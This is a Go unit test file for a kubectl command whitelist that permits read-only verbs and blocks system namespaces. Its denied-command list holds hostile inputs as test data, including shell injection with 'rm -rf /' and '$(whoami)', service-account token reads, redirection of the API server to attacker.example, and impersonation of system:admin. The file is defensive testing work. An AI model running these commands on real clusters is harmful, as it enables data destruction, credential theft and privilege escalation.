package kubernetes

import (
	"reflect"
	"testing"

	"github.com/belv2c/kubinaut/pkg/apierror"
)

func defaultTestWhitelist() *Whitelist {
	return NewWhitelist(WhitelistConfig{
		AllowedVerbs:      []string{"get", "describe", "logs", "top", "events", "rollout", "scale", "delete", "label", "annotate"},
		BlockedNamespaces: []string{"kube-system", "kube-public"},
	})
}

func TestParseCommand_Allowed(t *testing.T) {
	w := defaultTestWhitelist()

	tests := []struct {
		command string
		want    []string
	}{
		{"kubectl get pods", []string{"get", "pods"}},
		{"get pods -o wide", []string{"get", "pods", "-o", "wide"}},
		{"  rollout   restart deployment/web ", []string{"rollout", "restart", "deployment/web"}},
		{"GET pods", []string{"GET", "pods"}},
		{"logs web-1 --tail=100", []string{"logs", "web-1", "--tail=100"}},
		{"logs web-1 --since=1h --selector=app", []string{"logs", "web-1", "--since=1h", "--selector=app"}},
		{"get pods --sort-by=.metadata.name", []string{"get", "pods", "--sort-by=.metadata.name"}},
	}
	for _, tt := range tests {
		got, err := w.ParseCommand(tt.command)
		if err != nil {
			t.Errorf("ParseCommand(%q) unexpected error: %v", tt.command, err)
			continue
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("ParseCommand(%q) = %v, want %v", tt.command, got, tt.want)
		}
	}
}

func TestParseCommand_Denied(t *testing.T) {
	w := defaultTestWhitelist()

	denied := []string{
		"exec -it web -- sh",
		"apply -f manifest.yaml",
		"get pods; rm -rf /",
		"get pods && echo hi",
		"get pods $(whoami)",
		"get pods `id`",
		"get secret x > /tmp/out | cat",
		"describe pod web --kubeconfig /root/.kube/config",
		"logs web -- cat /var/run/secrets/token",
		"get pods -n other",
		"get pods --namespace=other",
		"get pods -A",
		"get pods --all-namespaces",
		"get pods -nother",
		"get secrets --server=https://attacker.example --insecure-skip-tls-verify",
		"get pods --context=prod-cluster",
		"get pods --cluster prod",
		"delete pods --all --as=system:admin",
		"get pods --as-group=system:masters",
		"get pods --kubeconfig=/tmp/other",
		"get pods -s https://attacker.example",
		"get pods -shttps://attacker.example",
		"get pods --token=abc --user=x",
		"get pods --insecure-skip-tls-verify",
		"get pods --client-key=/tmp/key.pem",
	}
	for _, cmd := range denied {
		if _, err := w.ParseCommand(cmd); !apierror.Is(err, apierror.KindPermissionDenied) {
			t.Errorf("expected %q to be denied, got %v", cmd, err)
		}
	}
}

func TestParseCommand_Empty(t *testing.T) {
	w := defaultTestWhitelist()
	for _, cmd := range []string{"", "   ", "kubectl"} {
		if _, err := w.ParseCommand(cmd); !apierror.Is(err, apierror.KindDecode) {
			t.Errorf("expected %q to be a decode error, got %v", cmd, err)
		}
	}
}

func TestIsVerbAllowed(t *testing.T) {
	w := defaultTestWhitelist()

	for _, v := range []string{"get", "DESCRIBE", "scale"} {
		if !w.IsVerbAllowed(v) {
			t.Errorf("expected %q to be allowed", v)
		}
	}
	for _, v := range []string{"exec", "apply", "patch", "cp"} {
		if w.IsVerbAllowed(v) {
			t.Errorf("expected %q to be denied", v)
		}
	}
}

func TestIsNamespaceBlocked(t *testing.T) {
	w := defaultTestWhitelist()

	if !w.IsNamespaceBlocked("kube-system") {
		t.Error("expected kube-system to be blocked")
	}
	if !w.IsNamespaceBlocked("kube-public") {
		t.Error("expected kube-public to be blocked")
	}
	if w.IsNamespaceBlocked("default") {
		t.Error("expected default to not be blocked")
	}
	if w.IsNamespaceBlocked("production") {
		t.Error("expected production to not be blocked")
	}
}
